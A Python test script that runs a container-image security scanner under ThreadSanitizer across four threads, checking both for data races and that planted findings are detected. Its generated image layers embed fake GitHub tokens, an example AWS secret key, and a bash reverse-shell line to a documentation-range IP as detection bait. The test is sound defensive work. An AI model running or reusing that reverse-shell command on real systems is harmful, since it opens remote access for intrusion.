#!/usr/bin/python3
"""A threaded scan under ThreadSanitizer (scripts/test.sh): the layer walk, the secret, malware,
inventory and config scanners on 4 threads over a generated multi-layer image, from a
docker-save archive and (when Debian's docker-registry is installed) by reference from a
registry on loopback, whose layers stream through a download thread and the layer's reading
thread each. Any data race or lock-order report fails it (TSan's exit code), whatever the
findings.

usage: tests/tsan_scan.py TSAN_BULWARK
"""
import json
import os
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "integration"))
import image_util as u  # noqa: E402

DPKG = "".join(f"Package: pkg{i}\nStatus: install ok installed\nVersion: 1.{i}-1\n"
               f"Architecture: amd64\n\n" for i in range(300))


def layers():
    out = [u.Layer([u.D("etc"), u.F("etc/os-release", 'ID=debian\nVERSION_ID="12"\n'),
                    u.F("etc/passwd", "root:x:0:0::/root:/bin/sh\n"), u.D("var"), u.D("var/lib"),
                    u.D("var/lib/dpkg"), u.F("var/lib/dpkg/status", DPKG)], comp="gzip")]
    # several layers of many small files, some with secrets, so that every worker has work
    for n in range(6):
        ents = [u.D(f"d{n}")]
        for i in range(400):
            body = f"line {i}\n" * 40
            if i % 97 == 0:
                body += f"token = ghp_{'Zx9Qw3Er7Ty1Ui5Op2As6Df4Gh8Jk0Lm3N'}{n}{i % 10}\n"
            if i % 131 == 0:
                body = "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n" + body
            ents.append(u.F(f"d{n}/f{i}.txt", body, mode=0o755 if i % 131 == 0 else 0o644))
        out.append(u.Layer(ents, comp="gzip" if n % 2 else "zstd"))
    # one layer of many blocks: read, hashed and inflated on a thread of its own while the
    # walking thread scans it (the pipeline's ring wraps many times)
    out.append(u.Layer([u.D("big")] + [
        u.F(f"big/b{i}.txt", b"".join(b"%d %08x\n" % (k, (k * 2654435761 + i) & 0xFFFFFFFF)
                                      for k in range(12000))) for i in range(24)], comp="gzip"))
    out.append(u.Layer([u.W("d0/f1.txt"), u.D("app"),
                        u.F("app/.env", "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLE1\n")]))
    return out


def scan(bulwark, env, target, fmt):
    p = subprocess.run([bulwark, "scan", "-j", "4", "-f", fmt, "--fail-on", "none", target],
                       env=env, capture_output=True, text=True, timeout=900)
    if p.returncode != 0 or "ThreadSanitizer" in p.stderr:
        sys.stderr.write(p.stderr[-20000:])
        sys.exit(f"tsan_scan: scan -f {fmt} {target} exited {p.returncode}")
    if fmt == "json":
        # the threads did the work: every planted secret and reverse shell was found
        doc = json.loads(p.stdout)
        cats = [f.get("category") for f in doc["findings"]]
        if cats.count("secret") < 6 * 5 or "malware" not in cats:
            sys.exit(f"tsan_scan: findings missing in {target}: {sorted(set(cats))}, "
                     f"{cats.count('secret')} secrets")


def main():
    bulwark = sys.argv[1]
    with tempfile.TemporaryDirectory() as d:
        ls = layers()
        img = u.docker_save(os.path.join(d, "img.tar"), ls)
        env = dict(os.environ, XDG_CACHE_HOME=os.path.join(d, "cache"),
                   TSAN_OPTIONS="halt_on_error=1 exitcode=66 second_deadlock_stack=1")
        for fmt in ("json", "sarif"):
            scan(bulwark, env, img, fmt)
        import registry_util as ru
        if not os.access(ru.REGISTRY, os.X_OK):
            print("tsan_scan: a 4-thread scan of a 9-layer image, no report (docker-registry "
                  "not installed: the registry form was not scanned)")
            return
        from pathlib import Path
        r = ru.Registry(Path(d) / "reg")
        try:
            ru.Client(f"http://{r.host}").push_image("tsan/img", "1", ls)
            scan(bulwark, env, f"{r.host}/tsan/img:1", "json")
        finally:
            r.stop()
    print("tsan_scan: a 4-thread scan of a 9-layer image, from an archive and from a "
          "registry, no report")


if __name__ == "__main__":
    main()
